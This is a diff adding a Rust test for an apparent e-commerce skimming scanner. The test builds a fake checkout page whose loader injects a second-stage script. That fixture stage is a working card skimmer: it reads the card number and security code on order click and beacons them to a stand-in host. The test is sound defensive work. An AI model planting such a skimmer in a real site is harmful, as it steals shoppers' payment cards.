@@ -171,3 +171,57 @@ fn the_stub_page_takes_the_declared_address() {
         "{s:?}"
     );
 }
+
+/// A built site's script that adds another of the site's own files at run time (a loader
+/// and its stage 2, both shipped in the build): the stage is read from the site's root and
+/// analysed, as it would be fetched from the shop's server. A stage missing from the build
+/// is an error entry (exit 3), never a clean report.
+#[test]
+fn a_stage_a_built_page_loads_from_its_own_files_is_analysed() {
+    let dir = tempfile::tempdir().unwrap();
+    let page = checkout(
+        r#"<link rel="canonical" href="https://www.pantry-goods.example/checkout/"><script src="/assets/js/reviews-loader.js" defer></script>"#,
+    );
+    write_file(dir.path(), "checkout/index.html", &page);
+    write_file(
+        dir.path(),
+        "assets/js/reviews-loader.js",
+        "(function () { var s = document.createElement('script'); s.async = true;\n\
+         s.src = '/assets/js/reviews-' + 'widget.js'; document.head.appendChild(s); })();",
+    );
+    let stage = "(function () {\n\
+      document.getElementById('place_order').addEventListener('click', function () {\n\
+        var n = document.getElementById('wc-authorize-net-cim-credit-card-account-number').value;\n\
+        var c = document.getElementById('wc-authorize-net-cim-credit-card-csc').value;\n\
+        navigator.sendBeacon('https://reviews-pantrycdn.com/r', JSON.stringify({ n: n, c: c }));\n\
+      });\n\
+    })();";
+    write_file(dir.path(), "assets/js/reviews-widget.js", stage);
+    let (code, report, stderr) = scan_json(&["--no-cache", dir.path().to_str().unwrap()]);
+    assert_eq!(code, 1, "{stderr}\n{report:#}");
+    let exfil: Vec<&Value> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule"] == "payment-data-exfiltration")
+        .collect();
+    assert_eq!(exfil.len(), 1, "{report:#}");
+    assert_eq!(exfil[0]["hosts"][0], "reviews-pantrycdn.com");
+    assert!(
+        exfil[0]["script"]
+            .as_str()
+            .unwrap()
+            .ends_with("assets/js/reviews-widget.js"),
+        "{}",
+        exfil[0]["script"]
+    );
+
+    std::fs::remove_file(dir.path().join("assets/js/reviews-widget.js")).unwrap();
+    let (code, report, _) = scan_json(&["--no-cache", dir.path().to_str().unwrap()]);
+    assert_eq!(code, 3, "{report:#}");
+    assert_eq!(report["complete"], false);
+    assert!(
+        report["errors"].to_string().contains("reviews-widget.js"),
+        "{report:#}"
+    );
+}
